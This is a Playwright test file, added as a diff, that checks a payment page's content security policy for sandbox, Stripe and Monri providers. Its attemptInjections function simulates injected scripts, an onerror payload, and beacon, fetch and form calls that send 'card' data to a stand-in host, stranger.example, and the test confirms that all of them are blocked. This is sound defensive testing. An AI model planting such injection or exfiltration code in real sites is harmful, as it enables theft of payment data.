@@ -1,0 +1,153 @@
+import { readdir } from 'node:fs/promises'
+import { expect, type Page, test } from '@playwright/test'
+import { monriAuthenticityToken, monriKey } from '../../fixtures/fake-monri.ts'
+import { fakeStripe, stripeKeys } from '../../providers/stripe/fake-stripe.ts'
+import { fakeStripeJs } from '../../providers/stripe/fake-stripe-js.ts'
+import { type IsolatedSite, createIsolatedSite } from '../fixtures/isolated-site.ts'
+import { goToPayButton } from '../fixtures/stripe-site.ts'
+
+// Scripts in the payment document: only ours and the provider's; the content security policy blocks everything else.
+
+const bank = 'https://ipgtest.monri.com'
+
+interface ProviderCase {
+  env: Record<string, string>
+  scripts(origin: string): (string | RegExp)[]
+  /** Origins of the frames in the page. */
+  frames(origin: string): string[]
+  /** Waits until the payment can be made. */
+  open(page: Page): Promise<void>
+}
+
+const expectPaymentWindow = (page: Page) => expect(page.locator('dialog .card-box iframe')).toHaveCount(3)
+
+const providerCases: Record<string, ProviderCase> = {
+  'the sandbox': {
+    env: {},
+    scripts: (origin) => [`${origin}/sandbox/v1.js`],
+    frames: (origin) => [origin],
+    open: expectPaymentWindow,
+  },
+  Stripe: {
+    env: {
+      STRIPE_SECRET_KEY: stripeKeys.secretKey,
+      STRIPE_PUBLISHABLE_KEY: stripeKeys.publishableKey,
+      STRIPE_WEBHOOK_SECRET: stripeKeys.webhookSecret,
+    },
+    scripts: () => [/^https:\/\/js\.stripe\.com\/[a-z]+\/stripe\.js$/],
+    frames: () => ['https://js.stripe.com'],
+    open: expectPaymentWindow,
+  },
+  Monri: {
+    env: { MONRI_KEY: monriKey, MONRI_AUTHENTICITY_TOKEN: monriAuthenticityToken, MONRI_API_BASE: bank },
+    scripts: () => [],
+    frames: () => [],
+    open: (page) => expect(page).toHaveURL(/\/booking\/[\w-]{22}$/),
+  },
+}
+
+for (const [name, provider] of Object.entries(providerCases)) {
+  test.describe(name, () => {
+    let own: IsolatedSite
+    let origin: string
+    test.beforeAll(async () => {
+      own = await createIsolatedSite()
+      origin = (await own.start(provider.env)).origin
+    })
+    test.afterAll(() => own.close())
+
+    async function openPayment(page: Page) {
+      const stripe = await fakeStripe()
+      await fakeStripeJs(page, stripe, ['applePay'])
+      // 204 keeps the browser on our page instead of the bank's.
+      await page.route(`${bank}/**`, (route) => route.fulfill({ status: 204 }))
+      const scripts = new Set<string>()
+      page.on('request', (request) => {
+        if (request.resourceType() === 'script' && request.frame() === page.mainFrame()) scripts.add(request.url())
+      })
+      const { payButton } = await goToPayButton(page, origin)
+      const before = new Set(scripts)
+      await payButton().click()
+      await provider.open(page)
+      await stripe.close()
+      return { before, scripts }
+    }
+
+    test('runs only our scripts and those of the provider', async ({ page }) => {
+      const { before, scripts } = await openPayment(page)
+      const built = (await readdir('build/client/assets')).map((file) => `${origin}/assets/${file}`)
+      const foreignScripts = (addresses: Set<string>) => [...addresses].filter((address) => !built.includes(address))
+      expect(foreignScripts(before)).toEqual([])
+      const theirs = provider
+        .scripts(origin)
+        .map((wanted) => (typeof wanted === 'string' ? wanted : expect.stringMatching(wanted)))
+      expect(foreignScripts(scripts)).toEqual(theirs)
+
+      // JSON scripts are data and never executed.
+      const inDocument = await page
+        .locator('script:not([type$="json"])')
+        .evaluateAll((all: HTMLScriptElement[]) => all.map(({ src }) => src || 'inline'))
+      expect(inDocument.filter((script) => !scripts.has(script))).toEqual([])
+      const frames = page.frames().filter((frame) => frame !== page.mainFrame())
+      expect([...new Set(frames.map((frame) => new URL(frame.url()).origin))]).toEqual(provider.frames(origin))
+    })
+
+    test('blocks injected scripts and every connection to another origin', async ({ page }) => {
+      await openPayment(page)
+      const reached: string[] = []
+      await page.route('https://stranger.example/**', (route) => {
+        reached.push(route.request().url())
+        return route.fulfill({ contentType: 'text/javascript', body: 'window.stolen = true' })
+      })
+      await page.evaluate(attemptInjections)
+      const refused = () => page.evaluate(() => [...(window.refused ?? [])].sort())
+      await expect
+        .poll(refused)
+        .toEqual([
+          'connect-src https://stranger.example/beacon',
+          'connect-src https://stranger.example/fetch',
+          'form-action https://stranger.example/form',
+          'frame-src https://stranger.example',
+          'img-src https://stranger.example/picture.png',
+          'script-src-attr inline',
+          'script-src-elem https://stranger.example/script.js',
+          'script-src-elem inline',
+        ])
+      expect(reached).toEqual([])
+      expect(await page.evaluate(() => window.stolen)).toBeUndefined()
+    })
+  })
+}
+
+declare global {
+  interface Window {
+    refused?: Set<string>
+    stolen?: true
+  }
+}
+
+/** Runs in the page: what injected code would attempt. */
+function attemptInjections() {
+  const refused = new Set<string>()
+  window.refused = refused
+  addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
+    refused.add(`${effectiveDirective} ${blockedURI}`)
+  })
+  const away = 'https://stranger.example'
+  const append = <Tag extends keyof HTMLElementTagNameMap>(
+    tag: Tag,
+    properties: Partial<HTMLElementTagNameMap[Tag]>,
+  ) => {
+    const made = Object.assign(document.createElement(tag), properties)
+    document.body.append(made)
+    return made
+  }
+  append('script', { src: `${away}/script.js` })
+  append('script', { textContent: 'window.stolen = true' })
+  append('div', { innerHTML: '<img src="data:," onerror="window.stolen = true">' })
+  append('img', { src: `${away}/picture.png` })
+  append('iframe', { src: away })
+  append('form', { action: `${away}/form`, method: 'post' }).submit()
+  navigator.sendBeacon(`${away}/beacon`, 'card')
+  fetch(`${away}/fetch`, { method: 'POST', body: 'card' }).catch(() => {})
+}
